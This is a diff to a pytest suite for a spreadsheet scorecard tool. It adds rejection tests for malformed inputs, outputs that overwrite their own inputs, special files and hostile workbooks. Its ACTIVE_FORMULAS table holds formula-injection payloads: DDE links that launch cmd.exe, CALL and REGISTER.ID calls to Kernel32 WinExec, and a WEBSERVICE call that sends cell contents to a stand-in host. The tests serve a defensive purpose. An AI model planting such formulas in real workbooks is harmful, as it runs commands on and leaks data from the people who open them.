@@ -116,6 +116,10 @@ class World:
         return ["build", "--rules", rules or self.rules, "--data", data or self.data,
                 "--month", "2012-05", "--out", out or self.out, *extra]
 
+    def report(self, *extra, rules=None, data=None, out=None) -> list:
+        return ["report", "--rules", rules or self.rules, "--data", data or self.data,
+                "--month", "2012-05", "--out", out or self.dir / "out" / "paper.docx", *extra]
+
     def results_cmd(self, *extra, rules=None, data=None) -> list:
         return ["results", "--rules", rules or self.rules, "--data", data or self.data,
                 "--out", self.results, *extra]
@@ -302,6 +306,9 @@ def hostile_as(role: str, kind: str):
         if role == "pdf":
             maker(w, w.out)
             return ["pdf", w.out, "--out", w.dir / "out" / "committee.pdf"], str(w.out)
+        if role == "paper":  # the month's workbook whose commentary goes into the paper
+            maker(w, w.out)
+            return w.report("--workbook", w.out), str(w.out)
         raise AssertionError(role)
 
     return make
@@ -316,6 +323,8 @@ def hostile_cases():
         "out": ["not-a-zip", "truncated-zip", "billion-laughs", "zip-bomb", "password-protected",
                 "corrupt-part"],
         "pdf": ["not-a-zip", "truncated-zip", "billion-laughs", "zip-bomb", "password-protected"],
+        "paper": ["not-a-zip", "truncated-zip", "billion-laughs", "zip-bomb", "password-protected",
+                  "corrupt-part"],
     }
     for role, kinds in roles.items():
         for kind in kinds:
@@ -357,6 +366,33 @@ def _out_not_a_workbook_name(w: World):
     return w.build(out=w.results), str(w.results)
 
 
+def _paper_open_in_word(w: World):
+    paper = w.dir / "out" / "paper.docx"
+    import docx  # the officer's edited draft: a real Word document
+
+    draft = docx.Document()
+    draft.add_paragraph("the officer's edited draft")
+    draft.save(paper)
+    paper.with_name("~$" + paper.name).write_bytes(b"\x0fWord owner file")
+    return w.report(), str(paper)
+
+
+def _paper_not_a_docx_name(w: World):
+    return w.report(out=w.results), str(w.results)
+
+
+def _paper_workbook_without_our_sheets(w: World):
+    other = w.dir / "inputs" / "other.xlsx"
+    other.parent.mkdir(exist_ok=True)
+    openpyxl.Workbook().save(other)
+    return w.report("--workbook", other), str(other)
+
+
+def _paper_report_section_typo(w: World):
+    rules = w.rules_with(_set(("report",), {"form": "Cabinet Member"}))
+    return w.report(rules=rules), f"{rules}: $.report"
+
+
 def _template_missing(w: World):
     missing = w.dir / "inputs" / "no-such-template.xlsx"
     return w.build("--template", missing, out=w.dir / "out" / "new.xlsx"), str(missing)
@@ -375,6 +411,170 @@ def _month_without_data(w: World):
 
 def _results_month_without_data(w: World):
     return w.results_cmd("--month", "2013-01"), "month 2013-01"
+
+
+# ----- outputs that are inputs, or files of another kind (round two)
+
+
+def _results_over(target: str, *extra, command="results", link=None):
+    """results/summary --out onto one of its own inputs (or a link to one)."""
+    def make(w: World):
+        paths = {"data": w.data, "rules": w.rules, "workbook": w.out}
+        out = paths[target]
+        if link == "symlink":
+            out = w.dir / "out" / "link.csv"
+            out.symlink_to(paths[target])
+        elif link == "hardlink":
+            out = w.dir / "out" / "hard.csv"
+            os.link(paths[target], out)
+        elif link == "relative":
+            out = Path(os.path.relpath(paths[target]))
+        argv = [command, "--rules", w.rules, "--data", w.data, "--out", out, *extra]
+        return argv, str(out)
+    return make
+
+
+def _build_over_its_data(w: World):
+    data = w.good_xlsx("monthly.xlsx")
+    return w.build(data=data, out=data), str(data)
+
+
+def _build_over_its_template(w: World):
+    return w.build("--template", w.out), str(w.out)
+
+
+def _batch_over_its_data(w: World):
+    data = w.dir / "out" / "scorecard-2012-04.xlsx"
+    w.good_xlsx("good.xlsx").replace(data)
+    return ["batch", "--rules", w.rules, "--data", data, "--from", "2012-04", "--to", "2012-05",
+            "--out-dir", w.out.parent], str(data)
+
+
+def _pdf_over_its_workbook(w: World):
+    return ["pdf", w.out, "--out", w.out], str(w.out)
+
+
+def _pdf_named_as_a_workbook(w: World):
+    other = w.dir / "out" / "committee.xlsx"
+    return ["pdf", w.out, "--out", other], str(other)
+
+
+def _summary_over_a_pdf(w: World):
+    pdf = w.dir / "out" / "committee.txt"
+    pdf.write_bytes(b"%PDF-1.7\n% last month's committee paper\n")
+    return ["summary", "--rules", w.rules, "--data", w.data, "--out", pdf], str(pdf)
+
+
+# ----- workbooks that used to mislead the data reader (round two)
+
+
+def _chart_sheet_named_data(w: World):
+    from openpyxl.chart import BarChart, Reference
+
+    path = w.dir / "inputs" / "charted.xlsx"
+    path.parent.mkdir(exist_ok=True)
+    book = openpyxl.Workbook()
+    ws = book.active
+    ws.title = "Figures"
+    for row in [hostile.DATA_HEADER] + [r.split(",") for r in GOOD_ROWS.splitlines()]:
+        ws.append(row)
+    chart = BarChart()
+    chart.add_data(Reference(ws, min_col=3, min_row=1, max_row=3))
+    book.create_chartsheet("Data").add_chart(chart)
+    book.save(path)
+    return w.build(data=path), f"{path} [Data]"
+
+
+def _formula_without_a_saved_result(w: World):
+    """openpyxl writes formulas without results, as any program that does not calculate does."""
+    rows = [("K1", "2012-04", 80, 100, None), ("K1", "2012-05", "=100+70", 200, None)]
+    path = w.xlsx(rows)
+    return w.build(data=path), f"{path} [Sheet] cell C3: column 'numerator'"
+
+
+# ----- templates carrying formulas that reach outside the workbook (round two)
+
+ACTIVE_FORMULAS = {
+    "dde-cmd": ("=cmd|' /C calc'!A0", "is a DDE link"),
+    "dde-msexcel": ("=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "is a DDE link"),
+    "webservice": ('=WEBSERVICE("https://example.invalid/?"&A1)', "calls WEBSERVICE"),
+    "filterxml": ('=FILTERXML(WEBSERVICE("https://example.invalid"),"//a")', "calls"),
+    "rtd": ('=RTD("progid",,"topic")', "calls RTD"),
+    "call": ('=CALL("Kernel32","WinExec","JCJ","calc",0)', "calls CALL"),
+    "register-id": ('=_xlfn.REGISTER.ID("Kernel32","WinExec")', "calls REGISTER.ID"),
+    "hyperlink-file": ('=HYPERLINK("file:///C:/Users/analyst/secret.xlsx","notes")',
+                       "links to a local or network file"),
+}
+
+
+def _active_template(kind: str, role: str = "template"):
+    def make(w: World):
+        formula, _ = ACTIVE_FORMULAS[kind]
+        if role == "template":
+            path = w.dir / "inputs" / "template.xlsx"
+            path.parent.mkdir(exist_ok=True)
+            book = openpyxl.Workbook()
+            book.active.title = "Notes"
+            book.active["B4"] = formula
+            book.save(path)
+            return w.build("--template", path, out=w.dir / "out" / "new.xlsx"), str(path)
+        book = openpyxl.load_workbook(w.out)  # the analyst's own sheet in last month's workbook
+        book.create_sheet("Notes")["C2"] = formula
+        book.save(w.out)
+        return w.build(), str(w.out)
+    return make
+
+
+def _xlsm_without_macros(w: World):
+    out = w.dir / "out" / "scorecard.xlsm"
+    return w.build(out=out), str(out)
+
+
+# ----- inputs that are not regular files, and names the system refuses (round two)
+
+
+def _special(role: str, special: str):
+    """/dev/zero or a FIFO as rules, data, template or the workbook to print: refused at once."""
+    def make(w: World):
+        if special == "fifo":
+            path = w.dir / "inputs" / f"{role}.fifo"
+            path.parent.mkdir(exist_ok=True)
+            os.mkfifo(path)
+        else:
+            path = Path(special)
+        if role == "rules":
+            return w.build(rules=path), str(path)
+        if role == "data":
+            return w.build(data=path), str(path)
+        if role == "template":
+            return w.build("--template", path, out=w.dir / "out" / "new.xlsx"), str(path)
+        return ["pdf", path, "--out", w.dir / "out" / "committee.pdf"], str(path)
+    return make
+
+
+LONG = "n" * 300
+
+
+def _too_long(role: str):
+    def make(w: World):
+        path = w.dir / f"{LONG}.{'xlsx' if role in ('out', 'template', 'pdf') else 'csv'}"
+        if role == "rules":
+            return w.build(rules=w.dir / f"{LONG}.json"), str(w.dir / f"{LONG}.json")
+        if role == "data":
+            return w.build(data=path), str(path)
+        if role == "out":
+            return w.build(out=path), str(path)
+        if role == "template":
+            return w.build("--template", path, out=w.dir / "out" / "new.xlsx"), str(path)
+        if role == "results-out":
+            out = w.dir / "out" / f"{LONG}.csv"
+            return ["results", "--rules", w.rules, "--data", w.data, "--out", out], str(out)
+        if role == "batch-out-dir":
+            folder = w.dir / LONG
+            return (["batch", "--rules", w.rules, "--data", w.data, "--out-dir", folder],
+                    str(folder))  # the folder itself, or a workbook in it: both name the long part
+        return ["pdf", w.out, "--out", w.dir / "out" / f"{LONG}.pdf"], str(w.dir / "out" / f"{LONG}.pdf")
+    return make
 
 
 # --------------------------------------------------------------------------- the catalogue
@@ -426,6 +626,34 @@ CATALOGUE = [
          "inf is not a finite number"),
     case("rules-nested-too-deeply", rules_text('{"scorecard": ' + "[" * 100_000 + "]" * 100_000 + "}"),
          "nested too deeply"),
+    # ----- round two: text a workbook cannot hold, duplicate keys, ids with a trailing newline
+    case("rules-control-character-in-a-name", bad_rules(_set(K1 + ("name",), "Child\u0001ren"),
+                                                       "$.indicators[0].name (K1)"),
+         "holds a control character U+0001 at position 6", "delete it"),
+    case("rules-vertical-tab-in-the-title", bad_rules(_set(("scorecard", "title"), "Score\u000bcard"),
+                                                      "$.scorecard.title"), "control character U+000B"),
+    case("rules-NUL-in-a-section", bad_rules(_set(C1 + ("section",), "ACT\u0000IVITY"),
+                                             "$.indicators[1].section (C1)"), "U+0000"),
+    case("rules-lone-surrogate-in-a-section", rules_text(json.dumps(RULES).replace(
+        '"ACTIVITY"', '"ACT\\ud800IVITY"', 1), ": $.indicators[1].section (C1)"),
+        "a broken character (a lone UTF-16 surrogate) U+D800"),
+    case("rules-U+FFFF-in-a-source", bad_rules(_set(K1 + ("source",), "Liberi\uffff"),
+                                               "$.indicators[0].source (K1)"), "U+FFFF"),
+    case("rules-name-longer-than-a-cell-holds", bad_rules(_set(K1 + ("name",), "n" * 40_000),
+                                                          "$.indicators[0].name (K1)"),
+         "is 40,000 characters long; a workbook cell holds at most 32,767"),
+    case("rules-duplicate-key", rules_text(json.dumps(RULES).replace(
+        '"polarity": "H"', '"polarity": "L", "polarity": "H"', 1), ": $.indicators[0].polarity (K1)"),
+        "the key 'polarity' is written more than once", "keep one"),
+    case("rules-duplicate-key-in-a-threshold", rules_text(json.dumps(RULES).replace(
+        '"target": 85', '"target": 85, "target": 95', 1),
+        ": $.indicators[0].thresholds[0].target (K1)"), "written more than once"),
+    case("rules-id-with-a-trailing-newline", bad_rules(_set(K1 + ("id",), "K1\n"),
+                                                       "$.indicators[0].id ('K1\\n')"),
+         "may only hold letters, digits"),
+    case("rules-from-with-a-trailing-newline", bad_rules(_set(K1_TH + ("from",), "2012-04\n"),
+                                                         "$.indicators[0].thresholds[0].from (K1)"),
+         "is not a month in the form YYYY-MM"),
     case("rules-file-not-found", lambda w: (w.build(rules=w.dir / "nowhere.json"),
                                             str(w.dir / "nowhere.json")), "file not found"),
     # ----- data, CSV
@@ -464,6 +692,33 @@ CATALOGUE = [
          "split it by year"),
     case("csv-too-many-bytes", csv_data(HEADER + GOOD_ROWS, MAX_BYTES=64), "is larger than the 64 byte limit",
          "split it by year"),
+    case("csv-month-in-year-0000", csv_data(HEADER + "K1,0000-05,1,2,\n", ": row 2, column 'period'"),
+         "'0000-05' is outside the years 1900 to 9999", "write the year in full"),
+    case("csv-month-in-year-1899", csv_data(HEADER + "K1,1899-12,1,2,\n", ": row 2, column 'period'"),
+         "is outside the years 1900 to 9999"),
+    case("csv-month-as-text-in-year-0000", csv_data(HEADER + "K1,May-0000,1,2,\n",
+                                                    ": row 2, column 'period'"), "is outside the years"),
+    case("month-option-in-year-0000", lambda w: (["results", "--rules", w.rules, "--data", w.data,
+                                                  "--month", "0000-05"], "xl-scorecard results"),
+         "'0000-05' is outside the years 1900 to 9999"),
+    *[case(f"tolerance-{text}", lambda w, text=text: (w.build(f"--tolerance={text}"), "xl-scorecard build"),
+           f"argument --tolerance: '{text}' must be a finite number, zero or more")
+      for text in ("nan", "inf", "-inf", "-0.5", "1e999")],
+    case("batch-range-of-a-thousand-years", lambda w: (["batch", "--rules", w.rules, "--data", w.data,
+                                                        "--from", "1900-01", "--to", "9999-12",
+                                                        "--out-dir", w.out.parent], "xl-scorecard batch"),
+         "spans 97,200 months, more than 1,200 (a century): narrow the range"),
+    case("tolerance-nan-in-batch", lambda w: (["batch", "--rules", w.rules, "--data", w.data,
+                                               "--out-dir", w.out.parent, "--tolerance", "NaN",
+                                               "--live"], "xl-scorecard batch"),
+         "must be a finite number"),
+    case("csv-blank-lines-keep-the-row-numbers",
+         csv_data(HEADER + "K1,2012-05,1,2,\n\n,,,,\nXX9,2012-05,1,2,\n", ": row 5, column 'indicator'"),
+         "'XX9' is not an indicator"),
+    case("csv-saved-as-utf-16", lambda w: (w.build(data=w.file("data.csv", (HEADER + GOOD_ROWS)
+                                                              .encode("utf-16"))),
+                                           str(w.dir / "inputs" / "data.csv")),
+         "is UTF-16 text (Excel's 'Unicode Text' format)", "CSV UTF-8"),
     case("csv-errors-through-results", csv_data(HEADER + "K1,2012-05,abc,200,\n",
                                                 ": row 2, column 'numerator'", command="results"),
          "'abc' is not a number"),
@@ -496,6 +751,10 @@ CATALOGUE = [
     case("xlsx-too-many-rows", xlsx_data([("K1", "2012-04", 1, 2, None), ("K1", "2012-05", 1, 2, None),
                                           ("C1", "2012-05", None, None, 3)], MAX_ROWS=2),
          "has more than 2 rows", "split it by year"),
+    case("xlsx-chart-sheet-named-Data", _chart_sheet_named_data, "is a chart sheet, not a table",
+         "in a worksheet named 'Data'"),
+    case("xlsx-formula-without-a-saved-result", _formula_without_a_saved_result,
+         "holds the formula =100+70 but no saved result", "open it in Excel or LibreOffice and save it"),
     # ----- workbooks as --data, --template, existing --out and pdf input
     *hostile_cases(),
     case("out-open-in-excel", _excel_has_it_open, "is open in Excel or LibreOffice",
@@ -505,9 +764,55 @@ CATALOGUE = [
          "cannot be replaced: it is open in another program", "close it in Excel"),
     case("out-is-a-folder", _out_is_a_folder, "is a folder, not a file"),
     case("out-not-a-workbook-name", _out_not_a_workbook_name, "give an output name ending in .xlsx"),
-    case("template-not-found", _template_missing, "cannot be read"),
+    case("template-not-found", _template_missing, "file not found"),
     case("pdf-of-a-workbook-without-committee-sheets", _pdf_of_a_data_workbook,
          "has none of the sheets Scorecard, Summary, Exceptions"),
+    # ----- an output that is an input, or replaces another kind of file
+    case("results-out-is-the-data", _results_over("data"), "is the --data input", "itself",
+         "choose another output name"),
+    case("results-json-out-is-the-rules", _results_over("rules", "--format", "json"),
+         "is the --rules input", "would destroy it"),
+    case("results-out-is-a-symlink-to-the-data", _results_over("data", link="symlink"),
+         "is the --data input"),
+    case("results-out-is-a-hard-link-to-the-data", _results_over("data", link="hardlink"),
+         "is the --data input"),
+    case("results-out-is-the-data-by-a-relative-path", _results_over("data", link="relative"),
+         "is the --data input"),
+    case("summary-out-is-a-workbook", _results_over("workbook", command="summary"),
+         "is named as a workbook (.xlsx) but this command writes a text file"),
+    case("summary-out-would-replace-a-pdf", _summary_over_a_pdf,
+         "already exists and is a PDF: it would be replaced by a text file"),
+    case("build-out-is-its-data-workbook", _build_over_its_data, "is the --data input"),
+    case("build-out-is-its-template", _build_over_its_template, "is the --template input"),
+    case("batch-out-dir-holds-its-data", _batch_over_its_data, "is the --data input"),
+    case("pdf-out-is-the-workbook", _pdf_over_its_workbook, "is the workbook to print"),
+    # ----- formulas that reach outside the workbook, in a template or the existing --out
+    *[case(f"template-with-{kind}", _active_template(kind), "holds formulas that reach outside",
+           f"Notes!B4 {ACTIVE_FORMULAS[kind][1]}", "delete them in Excel")
+      for kind in ACTIVE_FORMULAS],
+    case("existing-out-with-webservice", _active_template("webservice", role="out"),
+         "Notes!C2 calls WEBSERVICE"),
+    case("existing-out-with-dde", _active_template("dde-cmd", role="out"), "Notes!C2 is a DDE link"),
+    case("xlsm-out-without-macros", _xlsm_without_macros,
+         "an .xlsm is a macro-enabled workbook, but there are no macros to keep"),
+    # ----- not regular files; names too long for the system
+    *[case(f"{role}-is-{name}", _special(role, special), "is not a regular file",
+           "give the path of a saved")
+      for role in ("rules", "data", "template", "pdf")
+      for name, special in (("dev-zero", "/dev/zero"), ("a-fifo", "fifo"))],
+    case("data-is-a-folder", lambda w: (w.build(data=w.dir / "out"), str(w.dir / "out")),
+         "is a folder, not a data file"),
+    *[case(f"name-too-long-{role}", _too_long(role), "File name too long")
+      for role in ("rules", "data", "out", "template", "results-out", "batch-out-dir", "pdf")],
+    case("pdf-out-named-as-a-workbook", _pdf_named_as_a_workbook,
+         "is named as a workbook (.xlsx) but this command writes a PDF"),
+    # ----- the committee paper (xl-scorecard report)
+    case("paper-open-in-word", _paper_open_in_word, "is open in Word or LibreOffice", "close it"),
+    case("paper-out-not-docx", _paper_not_a_docx_name, "it would be replaced by a Word document"),
+    case("paper-workbook-without-our-sheets", _paper_workbook_without_our_sheets,
+         "has neither a Scorecard nor an Exceptions sheet"),
+    case("paper-report-section-typo", _paper_report_section_typo, "unknown field 'form'",
+         "add an 'x-' prefix"),
 ]
 
 
@@ -563,6 +868,10 @@ ACCEPTED = [
     pytest.param(HEADER + "K1,2012-04,80,100,\nK1,2012-05,210,200,\n", None, "2012-05",
                  ["row 3", "numerator 210 is above denominator 200 for percentage K1: over 100%"],
                  id="numerator-above-denominator-warns"),
+    pytest.param(HEADER + "K1,2012-04,80,100,\nK1,2012-05,-170,200,\n", None, "2012-05",
+                 ["row 3, column 'numerator'", "-170 is negative for K1 (percent)",
+                  "rated as far below any target", "\"allow_negative\": true"],
+                 id="negative-numerator-warns"),
     pytest.param(HEADER + "K1,Feb-15,80,100,\nK1,2015/03,90,100,\nK1,15/04/2015,1,2,\n", None, "2015-03",
                  ["column 'period'", "read 3 month(s) not written as YYYY-MM",
                   "row 2 'Feb-15' -> 2015-02", "row 3 '2015/03' -> 2015-03",
